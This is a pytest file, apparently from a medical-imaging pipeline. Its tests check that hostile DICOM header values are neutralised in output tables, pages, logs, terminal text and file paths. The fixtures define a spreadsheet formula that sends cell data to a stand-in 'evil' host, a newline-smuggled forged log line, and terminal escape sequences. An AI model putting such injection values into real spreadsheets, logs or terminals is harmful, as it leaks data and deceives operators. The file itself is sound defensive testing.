"""Text from headers is harmless wherever a run writes it: tables, pages, log, terminal, paths."""

import csv

import pydicom
import pytest

from hounsfield.pipeline.batch.csv_tables import read_worklist
from hounsfield.pipeline.batch.progress import Progress
from hounsfield.pipeline.batch.run import run
from hounsfield.pipeline.batch.run_summary import RunOptions
from hounsfield.pipeline.cli.inspect_output import print_table
from hounsfield.pipeline.cli.run_output import print_run_summary
from hounsfield.pipeline.inspection import inspect, notices_from_headers
from tests.pipeline.scripted import make_scripted_analyser, scripted_config, write_study

FORMULA = '=HYPERLINK("http://evil/?"&A1,"x")'
FORGED = "9.9\n2026-01-01 00:00:00,000 INFO study FORGED series 1: analysed"
SCREEN = "\x1b[2J\x1b[31m[red]:smile:"


def spoil(folder, *, study_uid, series_uid, description=None):
    for path in folder.glob("*.dcm"):
        dataset = pydicom.dcmread(path)
        with pydicom.config.disable_value_validation():
            dataset.PatientID = FORMULA
            dataset.StudyInstanceUID, dataset.SeriesInstanceUID = study_uid, series_uid
            dataset.SeriesDescription = description or dataset.SeriesDescription
            dataset.save_as(path)


@pytest.fixture
def hostile_run(tmp_path, capfd):
    """A run over hostile headers; its output folder, and all that it printed."""
    for uid, happens in (("1.1", "analysed"), ("1.2", "defect"), ("1.3", "analysed")):
        write_study(tmp_path / "in" / "DOE^JOHN" / uid, uid=uid, happens=happens)
    folder = tmp_path / "in" / "DOE^JOHN"
    spoil(folder / "1.1", study_uid=FORMULA, series_uid=f"{FORMULA}1")
    spoil(folder / "1.2", study_uid=FORGED, series_uid=f"{FORGED}1")
    spoil(folder / "1.3", study_uid=SCREEN, series_uid="[/x]\x1b]0;", description=SCREEN)
    out = tmp_path / "out"
    summary = run(
        [tmp_path / "in"],
        out=out,
        config=scripted_config(tmp_path),
        progress=Progress(verbose=True),
        options=RunOptions(),
        make_analyser=make_scripted_analyser,
    )
    print_run_summary(out, summary)
    print_table(inspect([tmp_path / "in"], notices_of=notices_from_headers))
    return out, "".join(capfd.readouterr())


def test_no_cell_of_a_table_is_a_formula_and_our_reader_has_the_text(hostile_run):
    out, _ = hostile_run
    for path in out.glob("*.csv"):
        rows = list(csv.reader(path.read_text().splitlines()))
        assert len({len(row) for row in rows}) == 1
        assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "@"))]
    assert {row["study_uid"] for row in read_worklist(out)} == {FORMULA, FORGED, SCREEN}


def test_no_control_character_and_no_forged_line_comes_through(hostile_run):
    out, printed = hostile_run
    (log,) = (out / "logs").iterdir()
    pages = [path for path in out.glob("*.*") if path.suffix in {".csv", ".html"}]
    for text in (printed, log.read_text(), *(path.read_text() for path in pages)):
        assert "\x1b" not in text
        assert not [line for line in text.splitlines() if line.startswith("2026-01-01 00")]


def test_neither_log_nor_folders_hold_text_of_a_header_or_a_file_name(hostile_run):
    out, _ = hostile_run
    (log,) = (out / "logs").iterdir()
    named = [log.read_text(), *map(str, out.rglob("*"))]
    for word in ("DOE", "HYPERLINK", "FORGED", "smile", str(out.parent / "in")):
        assert not [text for text in named if word in text]
    assert "ZeroDivisionError" in log.read_text()
